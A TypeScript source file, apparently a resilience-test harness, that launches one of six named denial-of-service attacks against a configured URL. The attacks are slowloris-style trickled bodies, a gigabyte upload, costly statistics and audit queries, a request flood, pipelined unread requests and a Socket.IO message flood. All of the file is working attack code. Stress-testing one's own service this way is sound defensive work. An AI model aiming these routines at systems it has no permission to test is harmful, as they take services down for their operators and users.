// Runs the attack that ATTACK names against URL, in a process of its own, until it is ended.
import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { WebSocket } from 'ws';

const { ATTACK = '', URL: address = '', TOKEN = '' } = process.env;
const { hostname, port } = new URL(address);

/** Writes to a new connection whenever the last one was closed. */
async function onConnections(count: number, use: (socket: Socket) => Promise<void>): Promise<void> {
  const one = async () => {
    for (;;) {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => {});
      const closed = new Promise<void>((resolve) => void socket.once('close', () => resolve()));
      await Promise.race([closed, use(socket)]);
      await closed;
      await pause(10);
    }
  };
  await Promise.all(Array.from({ length: count }, one));
}

const head = (contentLength: number) =>
  `POST /api/razorpay/order HTTP/1.1\r\nHost: ${hostname}\r\nAuthorization: Bearer ${TOKEN}\r\n` +
  `Content-Type: application/json\r\nContent-Length: ${contentLength}\r\n\r\n`;

/** Asks again as soon as it was answered. */
async function ask(clients: number, paths: readonly string[]): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: clients });
  const one = (n: number) =>
    new Promise<void>((resolve) => {
      const headers = { authorization: `Bearer ${TOKEN}` };
      const sent = request(`${address}${paths[n % paths.length]}`, { agent, headers }, (answer) => {
        answer.resume();
        answer.once('close', () => resolve());
      });
      sent.once('error', () => resolve());
      sent.end();
    });
  const client = async (n: number) => {
    for (let next = n; ; next += clients) await one(next);
  };
  await Promise.all(Array.from({ length: clients }, (_, n) => client(n)));
}

const ATTACKS: Record<string, () => Promise<void>> = {
  /** 500 bodies of which a byte comes in every half second. */
  'slow bodies': () =>
    onConnections(500, async (socket) => {
      socket.write(head(100_000));
      for (;;) {
        await pause(500);
        if (socket.destroyed) return;
        socket.write(' ');
      }
    }),
  'huge bodies': () =>
    onConnections(8, async (socket) => {
      socket.write(head(1_000_000_000));
      const zeros = Buffer.alloc(65_536, '0');
      while (!socket.destroyed) {
        if (!socket.write(zeros))
          await Promise.race([
            new Promise((resolve) => void socket.once('drain', resolve)),
            new Promise((resolve) => void socket.once('close', resolve)),
          ]);
      }
    }),
  /** Requests of a user who may see everything, about a million orders. */
  'large questions': () =>
    ask(16, [
      '/api/orders/statistics',
      '/api/orders/statistics/details',
      '/api/orders/DELIVERED?limit=500',
      '/api/users?search=a&limit=500',
      '/api/audit?limit=500',
    ]),
  'a flood of requests': () => ask(64, ['/api/users/me']),
  /** 5,000 requests at a time on each of 20 connections, whose answers are never read. */
  'unread answers': () =>
    onConnections(20, async (socket) => {
      socket.pause();
      const many = `GET /api/shops HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`.repeat(5_000);
      while (!socket.destroyed) {
        socket.write(many);
        await pause(1_000);
      }
    }),
  async 'a chatty socket'() {
    for (;;) {
      const socket = new WebSocket(`${address.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`);
      socket.on('error', () => {});
      const closed = new Promise<void>((resolve) => void socket.once('close', () => resolve()));
      let isReady = false;
      socket.on('message', (data: Buffer) => {
        const text = data.toString();
        if (text.startsWith('0')) socket.send(`40${JSON.stringify({ token: TOKEN })}`);
        else if (text === '2') socket.send('3');
        else if (text.startsWith('40')) isReady = true;
      });
      while (socket.readyState !== WebSocket.CLOSED) {
        if (isReady && socket.bufferedAmount < 1e6)
          for (let n = 0; n < 100; n += 1) socket.send(`42${n}["orders:resume",{"cursor":"1.1"}]`);
        await pause(1);
      }
      await closed;
      await pause(10);
    }
  },
};

const attack = ATTACKS[ATTACK];
if (!attack) throw new Error(`there is no attack '${ATTACK}'`);
for (const end of ['SIGTERM', 'disconnect'] as const) process.on(end, () => process.exit(0));
process.send?.({ ready: true });
await attack();
